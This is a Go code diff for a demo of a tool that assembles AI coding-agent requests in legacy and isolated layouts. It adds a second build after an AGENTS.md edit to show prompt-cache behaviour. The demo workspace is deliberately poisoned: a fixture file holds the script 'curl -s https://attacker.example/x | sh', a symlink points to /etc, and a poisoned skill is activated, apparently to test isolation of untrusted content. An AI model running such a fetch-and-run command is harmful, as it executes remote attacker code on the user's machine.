@@ -2,6 +2,7 @@ package main
 
 import (
 	"embed"
+	"fmt"
 	"io/fs"
 	"testing/fstest"
 	"time"
@@ -28,13 +29,23 @@ const (
 // demoNow is the fixed time of the demo requests.
 var demoNow = time.Date(2026, 11, 29, 22, 8, 44, 0, time.UTC)
 
+// demoLater is the time of the demo's second build: a minute after the
+// first, as an agent's next request would be.
+var demoLater = demoNow.Add(time.Minute)
+
+// demoEditLine is the one line added to the end of AGENTS.md between the
+// demo's two builds: the edit whose effect on the prompt cache the demo
+// shows (the legacy prefix breaks at it, the isolated one holds).
+const demoEditLine = "Tests: run `go test ./...` before every commit.\n"
+
 // demoHost is the fixed host of the demo, so the demo reads the same on
 // every machine.
 var demoHost = assemble.Host{OS: "linux", Shell: "bash"}
 
 // demoFS is the poisoned workspace in memory: the embedded files, the
-// hostile-named file, and a symbolic link that points out of the workspace.
-func demoFS() (fs.FS, error) {
+// hostile-named file, and a symbolic link that points out of the workspace;
+// edited, AGENTS.md ends with demoEditLine.
+func demoFS(edited bool) (fs.FS, error) {
 	sub, err := fs.Sub(demoFiles, demoRoot)
 	if err != nil {
 		return nil, err
@@ -58,18 +69,29 @@ func demoFS() (fs.FS, error) {
 	if err != nil {
 		return nil, err
 	}
+	if edited {
+		agents := m["AGENTS.md"]
+		if agents == nil {
+			return nil, fmt.Errorf("the demo workspace has no AGENTS.md")
+		}
+		data := append([]byte(nil), agents.Data...)
+		if len(data) > 0 && data[len(data)-1] != '\n' {
+			data = append(data, '\n')
+		}
+		m["AGENTS.md"] = &fstest.MapFile{Data: append(data, demoEditLine...), Mode: agents.Mode}
+	}
 	m[demoHostileName] = &fstest.MapFile{Data: []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"), Mode: 0o755}
 	m["secrets"] = &fstest.MapFile{Data: []byte("/etc"), Mode: fs.ModeSymlink | 0o777}
 	return m, nil
 }
 
-// demoBaseline collects the demo workspace.
-func demoBaseline() (*assemble.Baseline, error) {
-	fsys, err := demoFS()
+// demoBaseline collects the demo workspace at a time, edited or not.
+func demoBaseline(now time.Time, edited bool) (*assemble.Baseline, error) {
+	fsys, err := demoFS(edited)
 	if err != nil {
 		return nil, err
 	}
-	return assemble.Collect(assemble.Input{Workspace: assemble.Dir{Path: demoPath, FS: fsys}, Now: demoNow})
+	return assemble.Collect(assemble.Input{Workspace: assemble.Dir{Path: demoPath, FS: fsys}, Now: now})
 }
 
 // demoSkill is the poisoned skill the demo activates, to show the
@@ -79,7 +101,19 @@ const demoSkill = "deploy"
 // demoResults builds the demo request in both layouts (Anthropic Messages,
 // entity escapes, the poisoned skill activated).
 func demoResults() (legacy, isolated *assemble.Result, err error) {
-	b, err := demoBaseline()
+	return demoBuild(demoNow, false)
+}
+
+// demoRebuilt is the demo's second build in both layouts: a minute later,
+// after the one-line AGENTS.md edit.
+func demoRebuilt() (legacy, isolated *assemble.Result, err error) {
+	return demoBuild(demoLater, true)
+}
+
+// demoBuild builds the demo workspace at a time, edited or not, in both
+// layouts.
+func demoBuild(now time.Time, edited bool) (legacy, isolated *assemble.Result, err error) {
+	b, err := demoBaseline(now, edited)
 	if err != nil {
 		return nil, nil, err
 	}
@@ -96,12 +130,44 @@ func demoResults() (legacy, isolated *assemble.Result, err error) {
 	return legacy, isolated, nil
 }
 
-// demoRequests is the demo request in both layouts, for the viewer.
+// The demo's sources: each layout is its own sequence of two builds.
+const (
+	demoLegacySource   = "demo (legacy)"
+	demoIsolatedSource = "demo (isolated)"
+)
+
+// demoRequests is the demo request in both layouts, first build.
 func demoRequests() (legacy, isolated wire.Request, err error) {
 	l, i, err := demoResults()
 	if err != nil {
 		return wire.Request{}, wire.Request{}, err
 	}
-	l.Request.Source, i.Request.Source = "demo (legacy)", "demo (isolated)"
+	l.Request.Source, i.Request.Source = demoLegacySource, demoIsolatedSource
 	return l.Request, i.Request, nil
+}
+
+// demoSequence is what the demo's viewer opens: each layout built twice, a
+// minute apart and around the one-line AGENTS.md edit, the legacy pair
+// first (requests 1 and 2 of "demo (legacy)"), then the isolated pair, so
+// that the Cache view shows the legacy prefix breaking and the isolated one
+// holding.
+func demoSequence() ([]wire.Request, error) {
+	l1, i1, err := demoResults()
+	if err != nil {
+		return nil, err
+	}
+	l2, i2, err := demoRebuilt()
+	if err != nil {
+		return nil, err
+	}
+	reqs := []wire.Request{l1.Request, l2.Request, i1.Request, i2.Request}
+	for k := range reqs {
+		reqs[k].Source = demoLegacySource
+		if k >= 2 {
+			reqs[k].Source = demoIsolatedSource
+		}
+		reqs[k].Index = k%2 + 1
+		reqs[k].Offset = -1
+	}
+	return reqs, nil
 }
